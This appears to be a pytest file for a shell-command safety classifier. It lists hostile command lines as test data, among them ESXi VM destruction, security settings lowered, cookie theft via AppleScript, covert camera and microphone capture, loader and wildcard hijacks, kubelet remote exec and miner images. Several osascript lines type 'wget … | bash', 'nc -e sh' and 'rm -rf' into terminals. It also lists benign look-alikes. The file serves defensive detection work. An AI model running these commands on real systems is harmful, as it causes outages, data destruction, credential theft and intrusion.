"""The readers added for the classes a tenth blind probe (tests/corpus/probe10) found unread, each in
spellings of our own with its nearest everyday look-alike (none is a corpus entry): a hypervisor's
machines stopped, its protections lowered and its datastores handed to a dropped program; terminals
and browsers driven by AppleScript; cameras and microphones recorded; execution hijacked through the
loader, the search path, a bind mount or a wildcard; the kubelet's API and miner images; users
locked out, hosts cut off and services stopped wholesale; the machine's own network and directory
secrets; a home named by a loop variable."""

from __future__ import annotations

import pytest
from dsh_policy.cmdline.effects import KINDS, shell_acts
from dsh_policy.cmdline.shell import shell_commands


def kinds(line: str) -> set[str]:
    return {effect["kind"] for effect in shell_acts(line)}


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        # hypervisors (cmdline/effects/hypervisor.py)
        ("localcli vm process kill -t soft -w 55012", "outage"),
        ("vim-cmd vmsvc/unregister 31", "erase-contents"),
        ("vim-cmd vmsvc/power.reset 31", "outage"),
        ("vim-cmd hostsvc/firewall_disable", "defense-off"),
        ("vmkfstools --deletevirtualdisk /vmfs/volumes/ds2/web/web.vmdk", "erase-contents"),
        ("esxcli system settings encryption set --require-secure-boot=false", "defense-off"),
        ("esxcli system settings advanced set -o /UserVars/ESXiShellTimeOut -i 0", "defense-off"),
        (
            "esxcli system settings advanced set --option=/Security/AccountLockFailures --int-value=0",
            "defense-off",
        ),
        (
            "esxcli system settings advanced set -o /Syslog/global/logHost -s tcp://198.51.100.4:514",
            "log-off",
        ),
        ("esxcli network firewall ruleset set -r webAccess -a true", "cloud-exposure"),
        ("esxcli network ip interface set -i vmk0 -e false", "outage"),
        ("esxcli storage nfs remove -v backups", "outage"),
        ("esxcli system shutdown reboot -r maintenance", "outage"),
        ("esxcli system account add -i helpdesk -p Pw1! -c Pw1!", "account"),
        ("esxcli system permission set --id helpdesk --role Admin", "account"),
        ("govc vm.power -s web-01 db-01", "outage"),
        ("govc host.shutdown -f esx-03.lab", "outage"),
        (
            "govc host.esxcli -host esx-03 system settings kernel set -s execInstalledOnly -v false",
            "defense-off",
        ),
        ("/tmp/lk -d /vmfs/volumes/ds1 -t 4", "erase-contents"),
        ('ls /vmfs/volumes | while read d; do ./crypt "/vmfs/volumes/$d"; done', "erase-contents"),
        # terminals and browsers driven by AppleScript/JXA (interpreters/calls.py, effects/apps.py)
        (
            'osascript -e \'tell application "Brave Browser" to execute active tab of window 1'
            ' javascript "localStorage.getItem(1)"\'',
            "secret-hunt",
        ),
        (
            'osascript -l JavaScript -e \'Application("Safari").doJavaScript("document.cookie", {in: 0})\'',
            "secret-hunt",
        ),
        # cameras, microphones, screens (effects/apps.py)
        ("ffmpeg -f v4l2 -i /dev/video0 -frames:v 1 /tmp/p.jpg", "input-capture"),
        ("ffmpeg -f pulse -i default -t 30 /tmp/a.wav", "input-capture"),
        ("imagesnap -w 1 /tmp/s.jpg", "input-capture"),
        ("arecord -d 60 -f cd /tmp/r.wav", "input-capture"),
        ("gst-launch-1.0 avfvideosrc ! jpegenc ! filesink location=/tmp/c.jpg", "input-capture"),
        # execution hijacked (effects/hijack.py)
        ("LD_AUDIT=/dev/shm/a.so /usr/bin/su", "privilege"),
        ("env DYLD_INSERT_LIBRARIES=/Users/Shared/l.dylib open -a Zoom", "privilege"),
        ("PATH=/var/tmp:$PATH /usr/local/sbin/backup-helper", "privilege"),
        ("mount --bind /dev/shm/sh /usr/sbin/sshd", "privilege"),
        ("touch ./--use-compress-program=sh\\ x.sh", "privilege"),
        ("echo > '-e sh s.sh'", "privilege"),
        # the kubelet's API, miner images, the superuser group (effects/workloads.py)
        ("kubeletctl exec /bin/bash -p api-1 -c api -n prod --server 10.1.2.3", "remote-exec"),
        ("kubeletctl scan rce --cidr 10.1.0.0/16", "remote-exec"),
        ("kubeletctl scan token -s 10.1.2.3", "secret-hunt"),
        ("kubectl run m --image=ghcr.io/x/xmrig:6.21 --restart=Never", "miner"),
        ("podman run -d --name svc docker.io/lolminer:1.88 -a ETHASH", "miner"),
        (
            "kubectl patch cm aws-auth -n kube-system --patch-file p.yaml # groups: [system:masters]",
            "cloud-identity",
        ),
        (
            "cat crb.yaml | kubectl -n kube-system apply -f - # subjects: [{name: system:masters}]",
            "cloud-identity",
        ),
        # an upload without credentials (acts.py)
        ("aws s3 sync ./out s3://drop-7f2/x --no-sign-request", "cloud-exposure"),
        # users locked out, hosts cut off, services stopped wholesale (effects/lockout.py)
        ("passwd --lock deploy", "account"),
        ("usermod --expiredate 1970-01-02 alice", "account"),
        ("chage -E 0 bob", "account"),
        ("iptables -P INPUT DROP", "outage"),
        ("ip6tables -I OUTPUT -j REJECT", "outage"),
        ("iptables -I INPUT -p tcp --dport ssh -j DROP", "outage"),
        ("ufw deny 22/tcp", "outage"),
        ("killall -9 mysqld redis-server", "outage"),
        (
            "systemctl list-units --type=service --state=running --plain --no-legend"
            " | awk '{print $1}' | xargs systemctl stop",
            "break-system",
        ),
    ],
)
def test_class_is_read(line: str, kind: str) -> None:
    assert kind in KINDS
    assert kind in kinds(line), shell_acts(line)


@pytest.mark.parametrize(
    ("line", "inner"),
    [
        (
            'osascript -e \'tell application "Terminal" to do script'
            ' "wget -qO- https://198.51.100.9/x | bash"\'',
            "wget",
        ),
        (
            'osascript -e \'tell app "iTerm2" to tell current session of current window'
            ' to write text "nc -e sh h 9"\'',
            "nc",
        ),
        ('osascript -e \'tell application "System Events" to keystroke "rm -rf ~/work"\'', "rm"),
        ('osascript -l JavaScript -e \'Application("Terminal").doScript("curl -s h/x | sh")\'', "curl"),
    ],
)
def test_text_typed_into_a_terminal_is_a_shell_line(line: str, inner: str) -> None:
    assert any(argv[0] == inner for argv in shell_commands(line)), shell_commands(line)


@pytest.mark.parametrize(
    "line",
    [
        "esxcli system settings kernel list -o execInstalledOnly",
        "esxcli system settings advanced list -o /UserVars/SuppressShellWarning",
        "esxcli system settings advanced set -o /UserVars/SuppressShellWarning -i 0",
        "esxcli network firewall ruleset list",
        "esxcli system account list",
        "vim-cmd vmsvc/snapshot.create 31 before-patch",
        "vim-cmd vmsvc/power.on 31",
        "vmkfstools -q /vmfs/volumes/ds2/web/web.vmdk",
        "govc vm.power -on web-01",
        "du -sh /vmfs/volumes/ds1/*",
        "osascript -e 'tell application \"Terminal\" to activate'",
        "osascript -e 'tell application \"Google Chrome\" to get title of active tab of window 1'",
        "ffmpeg -i talk.mov -vf scale=1280:-1 talk.mp4",
        "ffmpeg -i in.wav -f alsa default",
        "arecord --list-devices",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server",
        "LD_PRELOAD=./build/libfaketime.so pytest -q",
        "export PATH=$HOME/.local/bin:$PATH",
        "PATH=./node_modules/.bin:$PATH vitest run",
        "mount --bind /srv/data /mnt/data",
        "touch notes.md",
        "kubeletctl pods --server 10.1.2.3",
        "kubectl run web --image=nginx:1.27 --port=80",
        "docker run --rm -it python:3.12 python -V",
        "kubectl get cm aws-auth -n kube-system -o yaml",
        "aws s3 cp s3://noaa-ghcn-pds/csv/by_year/1900.csv . --no-sign-request",
        "aws s3 ls s3://open-data-bucket/ --no-sign-request",
        "passwd",
        "usermod -aG video alice",
        "iptables -A INPUT -p tcp --dport 22 -s 10.0.0.0/8 -j ACCEPT",
        "iptables -A INPUT -p tcp --dport 8080 -j DROP",
        "iptables -A OUTPUT -d 203.0.113.7 -j DROP",
        "ufw allow 22/tcp",
        "pkill -f 'node server.js'",
        "killall postgres",
        "systemctl list-units --type=service --state=running",
        "systemctl restart nginx",
    ],
)
def test_look_alike_is_not(line: str) -> None:
    found = kinds(line)
    assert not found & {
        "outage",
        "erase-contents",
        "defense-off",
        "log-off",
        "cloud-exposure",
        "account",
        "secret-hunt",
        "input-capture",
        "privilege",
        "remote-exec",
        "miner",
        "cloud-identity",
        "break-system",
    }, shell_acts(line)
